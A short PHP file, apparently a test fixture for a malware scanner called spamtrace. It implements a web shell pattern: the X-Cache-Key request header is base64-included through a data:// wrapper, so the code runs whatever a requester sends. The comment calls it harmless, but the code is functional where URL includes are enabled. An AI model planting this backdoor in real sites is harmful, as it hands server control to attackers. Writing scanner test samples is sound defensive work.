<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
$h = getallheaders();
$b = isset($h['X-Cache-Key']) ? $h['X-Cache-Key'] : '';
include_once "data://text/plain;base64,{$b}";
